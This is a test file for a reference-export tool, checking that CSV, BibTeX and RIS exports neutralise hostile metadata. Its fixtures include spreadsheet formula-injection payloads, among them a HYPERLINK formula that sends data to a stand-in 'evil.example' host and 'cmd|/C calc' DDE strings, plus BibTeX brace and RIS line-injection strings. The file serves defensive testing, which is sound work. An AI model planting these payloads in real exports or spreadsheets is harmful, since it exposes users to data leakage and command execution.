/**
 * Hostile text in exports: titles, authors, venues and abstracts from sources
 * that would run as spreadsheet formulas, break a BibTeX entry's braces or
 * start a RIS line of their own. Every CSV path svc writes (reference export
 * over HTTP, the CLI and MCP, the explorer export) comes out neutralised and
 * reads back exactly; BibTeX keeps one field one field; RIS one value one line.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createRequire } from 'node:module';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseBibtex } from '@retorquere/bibtex-parser';
import { documentsByIds, type DocumentView } from '../src/corpus/read.js';
import { renderBibtex } from '../src/exports/bibtex.js';
import { csvCell, renderCsv } from '../src/exports/csv.js';
import { renderRis } from '../src/exports/ris.js';
import { createBackend } from '../src/mcp/backend.js';
import { callTool } from '../src/mcp/call.js';
import type { Paths } from '../src/paths.js';
import { runCliCaptured } from './_cli.js';
import { makeRecord, seed } from './_corpus.js';
import { plantCanary, type Canary } from './_hostile.js';
import { startTestServer, type TestServer } from './_setup.js';

const require = createRequire(import.meta.url);
const { Cite } = require('@citation-js/core');
require('@citation-js/plugin-ris');

/** OWASP's list: what a spreadsheet reads as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** The documented way back: a text cell that starts with an apostrophe had one added. */
const recovered = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "'=already apostrophed",
  '-3',
];
const TEXT_COLUMNS = ['title', 'authors', 'publication_date', 'venue', 'doi', 'arxiv_id', 'pmid', 'pmcid', 'url', 'pdf_url', 'type', 'abstract'];

let t: TestServer;
let canary: Canary;
let ids: number[];
let stored: Map<number, DocumentView>;

test.before(async () => {
  t = await startTestServer();
  canary = plantCanary(t.dirs.root);
  ids = seed(t.ctx, [
    ...HOSTILE_TITLES.map((title, i) =>
      makeRecord(i + 1, { title, authors: [{ name: '=cmd|calc' }, { name: 'Ada Lovelace' }], venue: '@Journal of Formulas', abstract: '-1+1 starts as a sum', categories: ['Hostile'] }),
    ),
    makeRecord(50, { title: 'A plain title', categories: ['Hostile'] }),
  ]);
  stored = new Map(documentsByIds(t.ctx.db, ids).map((d) => [d.id, d]));
});
test.after(() => t.close());

/** The CSV parsed back: every text cell either starts harmlessly or is the stored value behind one apostrophe; numbers as written. */
function checkCsv(text: string, expectedIds: number[]): void {
  const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
  assert.equal(rows.map((r) => Number(r.document_id)).sort((a, b) => a - b), [...expectedIds].sort((a, b) => a - b));
  for (const row of rows) {
    const doc = stored.get(Number(row.document_id))!;
    assert.match(row.document_id!, /^\d+$/, 'document_id is a bare number');
    assert.is(row.year, String(doc.year), 'year is a bare number');
    assert.is(row.is_retracted, 'false');
    for (const column of TEXT_COLUMNS) {
      assert.not.match(row[column]!, FORMULA_START, `${column} of ${doc.id} would run as a formula: ${row[column]}`);
    }
    assert.is(recovered(row.title!), doc.title);
    assert.is(recovered(row.authors!), doc.authors.map((a) => a.name).join('; '));
    assert.is(recovered(row.venue!), doc.venue ?? '');
    assert.is(recovered(row.abstract!), doc.abstract ?? '');
    if (FORMULA_START.test(doc.title) || doc.title.startsWith("'")) assert.is(row.title, `'${doc.title}`);
    else assert.is(row.title, doc.title, 'a harmless title is written as it is');
  }
  canary.check();
}

function execution(docIds: number[]): number {
  const db = t.ctx.db;
  const id = Number(db.prepare(`INSERT INTO executions (type, status, query, repositories_json, parameters_json, started_at_utc) VALUES ('dive', 'completed', 'q', '["crossref"]', '{}', ?)`).run(t.ctx.nowIso()).lastInsertRowid);
  const link = db.prepare('INSERT INTO execution_documents (execution_id, document_id, source, rank, is_new) VALUES (?, ?, ?, ?, ?)');
  docIds.forEach((doc, rank) => link.run(id, doc, 'crossref', rank, 1));
  return id;
}

test('the cell writer: text starting with = + - @ TAB CR or an apostrophe gets one apostrophe; numbers and booleans stay as written', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', "'"]) {
    const cell = csvCell(`${start}1+1`);
    const [parsed] = parseCsv(`${cell}\r\n`) as string[][];
    assert.is(parsed![0], `'${start}1+1`, JSON.stringify(start));
  }
  assert.is(csvCell('-3'), "'-3", 'a text -3 is text');
  assert.is(csvCell(-3), '-3', 'the number -3 stays a number');
  assert.is(csvCell(2020), '2020');
  assert.is(csvCell(false), 'false');
  assert.is(csvCell(null), '');
  assert.is(csvCell('Plain, with comma'), '"Plain, with comma"');
  assert.is(csvCell('a;=HYPERLINK("x")'), '"a;=HYPERLINK(""x"")"', 'quoted at a semicolon: a spreadsheet splitting on it gets one cell');
  assert.is(csvCell('a\t=1+1'), '"a\t=1+1"', 'quoted at a tab');
  assert.is(csvCell(' =1+1'), ' =1+1', 'a leading space is not on the list');
});

test('renderCsv: a negative year written from a number stays a number', () => {
  const doc = { ...stored.get(ids[0]!)!, year: -3, title: '-3' };
  const [row] = parseCsv(renderCsv([doc], { includeIds: true }), { columns: true }) as Record<string, string>[];
  assert.is(row!.year, '-3');
  assert.is(row!.title, "'-3");
});

test('reference export over HTTP (POST /api/export/references and an execution\'s references): formulas neutralised, values recoverable', async () => {
  const r = await t.request('POST', '/api/export/references', { body: { document_ids: ids, format: 'csv', include_ids: true } });
  assert.is(r.status, 200, r.text);
  checkCsv(r.text, ids);
  const exec = execution(ids);
  const byExec = await t.request('GET', `/api/executions/${exec}/references?format=csv&include_ids=true`);
  assert.is(byExec.status, 200, byExec.text);
  checkCsv(byExec.text, ids);
});

test('svc export references --format csv (stdout and -o): the same neutralised cells', async () => {
  const out = await runCliCaptured(['export', 'references', '--docs', ids.join(','), '--format', 'csv', '--include-ids'], t.dirs.env);
  assert.is(out.code, 0, out.stderr);
  checkCsv(out.stdout, ids);
  const json = await runCliCaptured(['--json', 'export', 'references', '--docs', ids.join(','), '--format', 'csv', '--include-ids'], t.dirs.env);
  checkCsv(JSON.parse(json.stdout).text, ids);
});

test('explorer export over HTTP and svc explore --export csv: the same neutralised cells', async () => {
  const r = await t.request('POST', '/api/explorer/export', { body: { categories: ['Hostile'], format: 'csv', include_ids: true } });
  assert.is(r.status, 200, r.text);
  checkCsv(r.text, ids);
  const out = await runCliCaptured(['--json', 'explore', '--category', 'Hostile', '--export', 'csv'], t.dirs.env);
  assert.is(out.code, 0, out.stderr);
  const rows = parseCsv(JSON.parse(out.stdout).text, { columns: true }) as Record<string, string>[];
  assert.equal(rows.map((row) => recovered(row.title!)).sort(), [...stored.values()].map((d) => d.title).sort());
  for (const row of rows) for (const column of TEXT_COLUMNS) assert.not.match(row[column]!, FORMULA_START, column);
});

test('MCP export_references as csv (doc_ids and exec_id): the same neutralised cells', async () => {
  const backend = createBackend({ port: t.port, paths: {} as Paths, fetch, token: t.token });
  const byDocs = await callTool(backend, 'export_references', { doc_ids: ids, format: 'csv' });
  assert.not.ok(byDocs.isError, JSON.stringify(byDocs.structuredContent));
  const rows = parseCsv((byDocs.structuredContent as { text: string }).text, { columns: true }) as Record<string, string>[];
  assert.is(rows.length, ids.length);
  for (const row of rows) {
    for (const column of TEXT_COLUMNS) assert.not.match(row[column]!, FORMULA_START, column);
    assert.ok([...stored.values()].some((d) => d.title === recovered(row.title!)), row.title);
  }
  const byExec = await callTool(backend, 'export_references', { exec_id: execution(ids), format: 'csv' });
  assert.is((parseCsv((byExec.structuredContent as { text: string }).text, { columns: true }) as unknown[]).length, ids.length);
  canary.check();
});

/** The fields of each entry as BibTeX itself finds them: a braced value ends where its braces balance, counted with no regard for backslashes. */
function bibtexFieldNames(text: string): string[][] {
  const entries: string[][] = [];
  const head = /@[a-z]+\{[^,\s]+,/gy;
  const field = /\s*([a-z_]+) = \{/y;
  const end = /\s*\}\s*/y;
  let i = 0;
  while (i < text.length) {
    head.lastIndex = i;
    if (!head.exec(text)) throw new Error(`no entry at ${i}: ${JSON.stringify(text.slice(i, i + 40))}`);
    i = head.lastIndex;
    const names: string[] = [];
    for (;;) {
      field.lastIndex = i;
      const m = field.exec(text);
      if (!m) break;
      names.push(m[1]!);
      let depth = 1;
      for (i = field.lastIndex; depth > 0; i++) {
        if (i >= text.length) throw new Error(`field ${m[1]} never closes`);
        if (text[i] === '{') depth++;
        else if (text[i] === '}') depth--;
      }
      if (text[i] === ',') i++;
    }
    end.lastIndex = i;
    if (!end.exec(text)) throw new Error(`entry does not close at ${i}: ${JSON.stringify(text.slice(i, i + 40))}`);
    i = end.lastIndex;
    entries.push(names);
  }
  return entries;
}

const BRACES = 'Open { only, close } only, inverted }{, deep {{{ and \\{ escaped \\} braces, a \\ backslash, 100% #1 & ~ $x$ @misc{evil, title={x}}';

test('BibTeX: a title, authors, venue and abstract full of { } \\ % # & ~ $ stay one field each, read back intact by a real parser', () => {
  const hostile = {
    ...stored.get(ids[0]!)!,
    title: BRACES,
    authors: [{ name: 'Brace { Man', given: 'Brace {', family: 'Man }' }, { name: 'Lone \\ Slash Consortium }' }],
    venue: 'Journal of {Unbalanced',
    abstract: 'An abstract } that closes early and opens { late \\{ with % # & ~ $.',
    categories: ['R&D }', '{x'],
  };
  const plain = { ...stored.get(ids[ids.length - 1]!)!, doi: '10.5555/plain' };
  const text = renderBibtex([hostile, plain], { includeIds: true });
  // BibTeX's own rule (every brace counts): each field ends where it should and swallows nothing after it,
  // the same fields as the entry of the same paper with tame text.
  const tame = { ...hostile, title: 'Tame', authors: [{ name: 'A Man', given: 'A', family: 'Man' }], venue: 'Journal', abstract: 'Tame.', categories: ['x'] };
  const expected = bibtexFieldNames(renderBibtex([tame, plain], { includeIds: true }));
  assert.ok(expected[0]!.includes('abstract') && expected[0]!.includes('svc_id'), expected[0]!.join());
  assert.equal(bibtexFieldNames(text), expected);
  const parsed = parseBibtex(text, { sentenceCase: false } as never) as any;
  assert.equal(parsed.errors, []);
  assert.is(parsed.entries.length, 2);
  const [first, second] = parsed.entries;
  assert.is(first.fields.title, BRACES);
  assert.equal(first.fields.author.map((a: any) => a.lastName ?? a.name), ['Man }', 'Lone \\ Slash Consortium }']);
  assert.is(first.fields.journal, 'Journal of {Unbalanced');
  assert.is(first.fields.abstract, hostile.abstract);
  assert.is(first.fields.year, String(hostile.year));
  assert.is(first.fields.doi, hostile.doi);
  assert.is(first.fields.svc_id, String(hostile.id));
  assert.is(second.fields.title, plain.title);
  assert.is(second.fields.doi, '10.5555/plain');
});

test('RIS: no line break of any kind inside a value starts a line of its own', () => {
  const breaks = ['\r\n', '\n', '\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'];
  const title = breaks.map((b, i) => `part ${i}${b}ER  - ${b}TY  - JOUR${b}TI  - injected ${i}`).join(' ');
  const doc = { ...stored.get(ids[0]!)!, title, abstract: `abstract\u2028ER  - ` };
  const text = renderRis([doc, stored.get(ids[1]!)!]);
  // Every character some RIS reader ends a line at (Python's str.splitlines).
  const lines = text.split(/\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/).filter((l) => l !== '');
  for (const line of lines) assert.match(line, /^[A-Z][A-Z0-9]  - /, JSON.stringify(line));
  assert.is(lines.filter((l) => l.startsWith('TY  - ')).length, 2);
  assert.is(lines.filter((l) => l.startsWith('ER  - ')).length, 2);
  const items = new Cite(text).data;
  assert.is(items.length, 2);
  // The whole title, its breaks and runs of spaces made one space each.
  assert.is(items[0].title, breaks.map((_, i) => `part ${i} ER - TY - JOUR TI - injected ${i}`).join(' '));
  assert.is(items[1].title, stored.get(ids[1]!)!.title);
});

test.run();
